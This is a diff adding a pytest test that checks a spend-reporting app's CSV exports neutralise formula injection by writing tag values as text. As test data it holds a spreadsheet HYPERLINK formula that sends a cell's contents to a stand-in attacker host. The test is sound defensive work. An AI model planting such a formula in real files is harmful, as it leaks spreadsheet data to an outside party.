@@ -188,3 +188,27 @@ def test_totals_over_ragged_windows_equal_the_daily_sums(world: dict[str, Any]) 
             Decimal(0),
         )
         assert totals(SpendRollup.objects.all(), window, "domain")[0]["amount"] == expected
+
+
+@pytest.mark.parametrize(("export", "level"), [("domains", "domain"), ("profiles", "profile"), ("spaces", "space")])
+def test_every_csv_export_writes_a_tag_value_that_looks_like_a_formula_as_text(
+    world: dict[str, Any], export: str, level: str
+) -> None:
+    # Spend tagged with an ARN the inventory does not know keeps the tag's value, whatever it is.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    day = TODAY - timedelta(days=1)
+    for period, start in (("day", day), ("month", day.replace(day=1))):
+        SpendRollup.objects.create(
+            payer=world["research"].account,
+            period=period,
+            start=start,
+            level=level,
+            domain_arn=formula if level == "domain" else world["research"].arn,
+            key_arn=formula,
+            amount=Decimal("-3.25"),
+        )
+    response = get(world["finance"], export=export)
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    row = next(r for r in rows if formula in r[2])
+    assert row[2] == "'" + formula
+    assert row[3] == "-3.25"  # a negative amount is a number, written as it is
